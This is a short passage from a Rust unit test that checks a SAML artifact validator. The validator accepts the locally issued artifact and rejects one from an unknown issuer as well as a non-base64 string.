        let theirs = crate::saml::new_artifact(&Fault::UnknownSourceId.artifact_issuer(TVS));
        assert!(crate::saml::artifact_from(&ours, TVS));
        assert!(!crate::saml::artifact_from(&theirs, TVS));
        assert!(!crate::saml::artifact_from("not base64!", TVS));
    }
}
